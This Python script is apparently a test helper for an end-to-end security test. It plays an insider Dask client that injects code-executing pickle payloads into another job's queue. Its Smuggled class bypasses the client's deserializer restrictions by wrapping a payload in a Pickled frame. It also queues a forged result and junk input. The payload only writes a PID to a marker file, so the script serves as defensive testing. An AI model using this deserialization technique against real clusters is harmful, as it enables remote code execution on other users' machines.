"""A second Dask client, holding a certificate of the cluster (an insider), that writes to
the queue of whatever ios_ssh run is going on: objects that run code when unpickled, a
forged result and junk. Run as a script by tests/e2e/test_dask.py:

    python dask_intruder.py ADDRESS CERTS_DIR MARKER_FILE

It prints its own PID. As a control, it loads one of its payloads itself, through a plain
Dask client: the payload is live (it writes this process's PID to MARKER_FILE).
"""

from __future__ import annotations

import json
import os
import pickle
import sys
from typing import Any

from distributed import Client, Queue
from distributed.protocol.serialize import Pickled, to_serialize
from distributed.security import Security


class Payload:
    """Unpickled anywhere, it appends that process's PID to the marker file."""

    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[Any, ...]:
        code = f"import os; open({self.marker!r}, 'a').write(f'{{os.getpid()}}\\n')"
        return (exec, (code,))


class Smuggled:
    """Unpickled on the scheduler it becomes a `Pickled` wrapper of the payload, which the
    scheduler hands on as a `__Pickled__` frame: Dask's client loads that frame whatever
    its `deserializers` say."""

    def __init__(self, inner: bytes) -> None:
        self.inner = inner

    def __reduce__(self) -> tuple[Any, ...]:
        return (Pickled, ({"pickled-obj": self.inner, "num-sub-frames": 0}, []))


def main(address: str, certs: str, marker: str) -> None:
    security = Security(
        require_encryption=True,
        tls_ca_file=f"{certs}/ca.pem",
        tls_client_cert=f"{certs}/insider.pem",
        tls_client_key=f"{certs}/insider.key",
    )
    inner = pickle.dumps(Payload(marker))
    with Client(address, security=security, timeout=20) as client:

        def names(dask_scheduler: Any = None) -> list[str]:
            return [n for n in dask_scheduler.extensions["queues"].queues if n.startswith("ios")]

        (run,) = client.run_on_scheduler(names)
        queue = Queue(run, client=client)
        queue.put(to_serialize(Payload(marker)))  # passed on as a Serialized pickle
        queue.put(Smuggled(inner))  # passed on as a __Pickled__ frame
        forged = {"v": 1, "type": "outcome", "host": "r1", "report": {"host": "r1"}}
        queue.put(
            json.dumps({**forged, "sessions": 0, "round_trips": 0, "seconds": 0.0, "pins": []})
        )
        queue.put(12345)
        control = Queue("intruder-control", client=client)
        control.put(Smuggled(inner))
        control.get(timeout=10)  # a plain client runs it: the payload is live
        control.close()
    print(os.getpid(), flush=True)


if __name__ == "__main__":
    main(*sys.argv[1:4])
